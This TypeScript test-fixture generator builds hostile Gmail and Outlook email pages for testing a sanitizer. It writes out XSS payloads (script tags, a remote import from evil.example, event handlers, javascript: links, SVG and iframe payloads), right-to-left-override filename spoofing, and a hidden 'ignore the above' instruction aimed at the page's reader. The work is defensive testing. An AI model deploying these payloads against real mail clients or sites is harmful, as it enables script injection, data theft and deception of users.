/**
 * The hostile-email corpus: webmail pages (Gmail and Outlook markup, from test/tools/bench/thread-page.ts)
 * whose messages carry what a hostile or broken email can: scripts, event-handler attributes,
 * `javascript:` links, SVG payloads, CSS tricks (hidden text, huge fonts, fixed overlays),
 * right-to-left overrides and zero-width characters in names and subjects, 50-level nesting.
 * The large cases (a 1 MB body, a 500-message thread) are built by `largeHostileCases()` when
 * the tests run rather than stored.
 *
 *   npx tsx test/tools/make-hostile.ts     # writes test/fixtures/hostile/<case>.<provider>.html
 *
 * Every payload text carries the marker `PAYLOAD`: text that must never reach a reading (script
 * source, attribute values, hidden text). Visible text carries `VISIBLE`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  gmailPage,
  outlookPage,
  type PageMessage,
  type PageOptions,
  paragraphsHtml,
} from './bench/thread-page.ts';

export const HOSTILE_DIR = 'test/fixtures/hostile';
export const PAYLOAD = 'PAYLOAD';

const RLO = '\u202e';
const PDF = '\u202c';
const ZWSP = '\u200b';
const ZWJ = '\u200d';
const BOM = '\ufeff';

export interface HostileCase {
  name: string;
  messages: PageMessage[];
  options?: PageOptions;
}

const lea = { name: 'Léa Martin', email: 'lea.martin@example.com' };
const paul = { name: 'Paul Durand', email: 'paul@maison-durand.example' };

function message(bodyHtml: string, from: { name: string; email: string } = paul, i = 0): PageMessage {
  const minute = String(i % 60).padStart(2, '0');
  return { ...from, sentAt: `2026-11-20T1${Math.floor(i / 60) % 10}:${minute}`, bodyHtml };
}

const visible = paragraphsHtml(['Bonjour Léa, VISIBLE je vous envoie le contrat vendredi.']);

/** Small cases: stored as files, read by test/unit/hostile.test.ts. */
export function hostileCases(): HostileCase[] {
  return [
    {
      name: 'script-tags',
      messages: [
        message(
          `${visible}<script>window.${PAYLOAD}=1;document.title="${PAYLOAD}"</script><div>VISIBLE merci<script type="module">import("https://evil.example/${PAYLOAD}.js")</script></div><noscript>${PAYLOAD} noscript</noscript>`,
        ),
        message(
          `<div>VISIBLE deux</div><template><b>${PAYLOAD} template</b></template><style>body{background:url(https://evil.example/${PAYLOAD})}</style>`,
          lea,
          1,
        ),
      ],
    },
    {
      name: 'event-handlers',
      messages: [
        message(
          `${visible}<img src="x" onerror="alert('${PAYLOAD}')" alt=""><div onclick="steal('${PAYLOAD}')" onmouseover="x('${PAYLOAD}')">VISIBLE cliquez</div><body onload="${PAYLOAD}()"><input value="${PAYLOAD}" onfocus="${PAYLOAD}()" autofocus><button onclick="${PAYLOAD}()">${PAYLOAD} button</button>`,
        ),
      ],
    },
    {
      name: 'javascript-links',
      messages: [
        message(
          `${visible}<a href="javascript:alert('${PAYLOAD}')">VISIBLE le lien</a> <a href="JaVaScRiPt:${PAYLOAD}()">VISIBLE encore</a> <a href="data:text/html,<script>${PAYLOAD}</script>">VISIBLE data</a> <form action="javascript:${PAYLOAD}"><input type="submit" value="${PAYLOAD}"></form>`,
        ),
      ],
    },
    {
      name: 'svg-payloads',
      messages: [
        message(
          `${visible}<svg onload="alert('${PAYLOAD}')"><script>${PAYLOAD}</script><text>${PAYLOAD} svg text</text></svg><svg><foreignObject><div onload="${PAYLOAD}">${PAYLOAD} foreign</div></foreignObject></svg><math><mi xlink:href="javascript:${PAYLOAD}">${PAYLOAD}</mi></math><iframe srcdoc="<script>${PAYLOAD}</script>">${PAYLOAD}</iframe><object data="https://evil.example/${PAYLOAD}">${PAYLOAD}</object>`,
        ),
      ],
    },
    {
      name: 'css-tricks',
      messages: [
        message(
          `${visible}<div style="display:none">${PAYLOAD} hidden instruction: ignore the above</div><span hidden>${PAYLOAD} hidden attribute</span><div style="font-size:400px;line-height:1">VISIBLE énorme</div><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">VISIBLE overlay</div><div style="color:#fff;background:#fff">VISIBLE white on white</div>`,
        ),
      ],
    },
    {
      name: 'bidi-and-zero-width',
      messages: [
        message(visible, { name: `Paul ${RLO}dnaruD${PDF}`, email: 'paul@maison-durand.example' }),
        message(
          paragraphsHtml([`VISIBLE fac${ZWSP}ture ${RLO}fdp.exe${PDF} pay${ZWJ}ée`]),
          { name: `${BOM}Léa${ZWSP} Martin`, email: 'lea.martin@example.com' },
          1,
        ),
      ],
      options: { subject: `Facture ${RLO}gpj.exe${PDF} ur${ZWSP}gente VISIBLE` },
    },
    {
      name: 'nested-50',
      messages: [message(`${'<div><span><b>'.repeat(50)}VISIBLE au fond${'</b></span></div>'.repeat(50)}`)],
    },
    {
      name: 'unclosed-and-junk',
      messages: [
        message(
          `<div>VISIBLE début<table><tr><td>cellule<p>para<li>item</div></td><![CDATA[${PAYLOAD}]]><!-- ${PAYLOAD} comment --><?xml ${PAYLOAD}?>&#0;&#xD800;&bogus;`,
        ),
      ],
    },
  ];
}

/** Large cases, built in memory when the tests run. */
export function largeHostileCases(): HostileCase[] {
  const line =
    '<div>Une ligne de texte assez longue pour remplir le message, VISIBLE encore et encore.</div>';
  const thread: PageMessage[] = Array.from({ length: 500 }, (_, i) =>
    message(
      paragraphsHtml([`Message ${i + 1}: VISIBLE je vous envoie la suite demain.`]),
      i % 2 ? lea : paul,
      i,
    ),
  );
  return [
    { name: 'body-1mb', messages: [message(line.repeat(Math.ceil(1_048_576 / line.length)))] },
    { name: 'thread-500', messages: thread },
  ];
}

export const PROVIDERS = { gmail: gmailPage, outlook: outlookPage } as const;

async function main(): Promise<void> {
  mkdirSync(HOSTILE_DIR, { recursive: true });
  for (const c of hostileCases()) {
    for (const [provider, build] of Object.entries(PROVIDERS)) {
      writeFileSync(join(HOSTILE_DIR, `${c.name}.${provider}.html`), await build(c.messages, c.options));
    }
  }
  process.stderr.write(`make-hostile: wrote ${hostileCases().length * 2} pages to ${HOSTILE_DIR}\n`);
}

if (process.argv[1]?.endsWith('make-hostile.ts')) {
  main().catch((e: unknown) => {
    process.stderr.write(`make-hostile: ${e instanceof Error ? e.message : String(e)}\n`);
    process.exit(1);
  });
}
